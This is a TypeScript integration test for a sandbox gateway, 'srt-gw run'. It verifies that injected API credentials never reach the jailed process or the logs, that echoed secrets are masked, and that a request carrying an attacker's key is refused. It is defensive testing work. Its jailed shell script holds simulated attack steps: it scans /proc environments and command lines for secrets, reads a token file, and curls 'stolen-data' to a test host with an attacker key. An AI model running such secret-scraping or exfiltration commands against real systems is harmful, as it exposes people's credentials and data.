// Injected credentials through `srt-gw run`: the real secrets stay on the host. The jailed process
// finds only placeholders (its environment, every process's environment and command line, the
// secret file, the upstream's echo of its own request), the upstream receives the real secrets,
// an attacker's key is refused before it leaves, and no log line holds a secret.
import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { capabilityGate, missingCommand, missingRoot } from '../support/capabilities.js';
import { startFakeHttpsServer, type FakeHttpsServer } from '../support/fake-https-server.js';
import { createJailWorkdir, describeRun, runInJailCli, type JailRunResult } from '../support/jail-run.js';
import { createTestPki, type TestPki } from '../support/test-pki.js';

const skip = capabilityGate(missingRoot(), missingCommand('bwrap'), missingCommand('nft'), missingCommand('curl'), missingCommand('git'));

const API = 'api.example.test';
const ENV_SECRET = 'sk-real-env-secret-0123456789abcdef';
const FILE_SECRET = 'file-secret-fedcba9876543210';
const ATTACKER_KEY = 'attacker-key-0000000000000000';

describe.skipIf(skip !== null)('srt-gw run with injected credentials: no secret enters the jail', () => {
  let root = '';
  let pki: TestPki;
  let upstream: FakeHttpsServer;
  const seen: { path: string; apiKey: string | undefined; authorization: string | undefined; body: string }[] = [];
  let result: JailRunResult;
  let cwd = '';

  beforeAll(async () => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'srt-gw-jail-credentials-')));
    pki = createTestPki([API]);
    upstream = await startFakeHttpsServer({
      cert: pki.server.cert,
      key: pki.server.key,
      // Echoes the credentials it received: the gateway must mask them on the way back.
      handler: (req, res) => {
        let body = '';
        req.setEncoding('utf8');
        req.on('data', (chunk: string) => (body += chunk));
        req.on('end', () => {
          const entry = { path: req.url ?? '', apiKey: req.headers['x-api-key'] as string | undefined, authorization: req.headers.authorization, body };
          seen.push(entry);
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end(JSON.stringify({ youSent: { apiKey: entry.apiKey, authorization: entry.authorization } }));
        });
      },
    });
    cwd = createJailWorkdir(root, 'project');
    // A secret file in the project itself: visible to the command unless srt-gw hides it.
    const tokenFile = join(cwd, 'token.txt');
    writeFileSync(tokenFile, `${FILE_SECRET}\n`, { mode: 0o600 });
    const policyYaml = `version: 1
rules:
  - id: echo-api
    host: ${API}
    credentials:
      - header: x-api-key
        inject: { env: EXAMPLE_API_KEY }
      - header: authorization
        inject: { file: ${tokenFile} }
`;
    const script = [
      'echo "env=$EXAMPLE_API_KEY"',
      // Every process the command can see: environments and command lines. The needles are
      // decoded into a private file by shell builtins, so no command line carries them.
      `printf '%s\\n' "$(echo ${Buffer.from(ENV_SECRET).toString('base64')} | base64 -d)" "$(echo ${Buffer.from(FILE_SECRET).toString('base64')} | base64 -d)" > /tmp/needles`,
      `echo "procs=$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c -F -f /tmp/needles)"`,
      'echo "token=[$(cat token.txt)]"',
      `curl -sS ${upstream.url(API, '/echo')} -H "x-api-key: $EXAMPLE_API_KEY"; echo`,
      `curl -sS -o /dev/null -w "attacker=%{http_code}\\n" -H "x-api-key: ${ATTACKER_KEY}" --data-binary stolen-data ${upstream.url(API, '/upload')}`,
    ].join('; ');
    result = await runInJailCli({
      cwd,
      command: ['sh', '-c', script],
      policyYaml,
      caDir: join(root, 'ca'),
      upstreamCa: [pki.ca.certPath],
      resolveToLoopback: [API],
      env: { EXAMPLE_API_KEY: ENV_SECRET },
    });
    expect(result.code, describeRun(result)).toBe(0);
  });

  afterAll(async () => {
    await upstream?.close();
    pki?.cleanup();
    if (root !== '') rmSync(root, { recursive: true, force: true });
  });

  it('the command\'s environment holds a placeholder, not the secret', () => {
    expect(result.stdout).toMatch(/^env=srtgw-placeholder-\S+$/m);
  });

  it('no process in the jail carries a secret in its environment or command line', () => {
    expect(result.stdout).toMatch(/^procs=0$/m);
  });

  it('the file a secret is injected from is hidden (it reads as empty), though it lies in the working directory', () => {
    expect(result.stdout).toMatch(/^token=\[\]$/m);
    expect(result.stdout).not.toContain(FILE_SECRET);
  });

  it('the upstream receives the real secrets in place of the placeholder', () => {
    const echo = seen.find((entry) => entry.path === '/echo');
    expect(echo).toMatchObject({ apiKey: ENV_SECRET, authorization: `Bearer ${FILE_SECRET}` });
  });

  it('an upstream that echoes the secrets back is masked: the command sees placeholders', () => {
    const line = result.stdout.split('\n').find((l) => l.includes('youSent'));
    expect(line, result.stdout).toBeDefined();
    expect(line).toContain('srtgw-placeholder-');
    expect(line).not.toContain(ENV_SECRET);
    expect(line).not.toContain(FILE_SECRET);
  });

  it('a request with the attacker\'s own key is refused before it leaves: neither key nor body arrive', () => {
    expect(result.stdout).toMatch(/^attacker=403$/m);
    expect(seen.some((entry) => entry.path === '/upload' || entry.apiKey === ATTACKER_KEY || entry.body.includes('stolen-data'))).toBe(false);
  });

  it('no log line and no output holds a secret', () => {
    const everything = JSON.stringify(result.audit) + result.stderr + result.stdout;
    expect(everything).not.toContain(ENV_SECRET);
    expect(everything).not.toContain(FILE_SECRET);
    expect(result.audit.some((line) => line.credential === 'injected')).toBe(true);
  });

  it('srt-gw run --log writes one line per decision, each valid against docs/audit-log.schema.json', () => {
    const schema = JSON.parse(readFileSync(new URL('../../docs/audit-log.schema.json', import.meta.url), 'utf8')) as object;
    const validate = new Ajv2020({ allErrors: true, strict: false }).compile(schema);
    expect(new Set(result.audit.map((line) => line.kind))).toEqual(new Set(['dns', 'connect', 'request']));
    for (const line of result.audit) expect(validate(line), JSON.stringify({ line, errors: validate.errors })).toBe(true);
  });
});
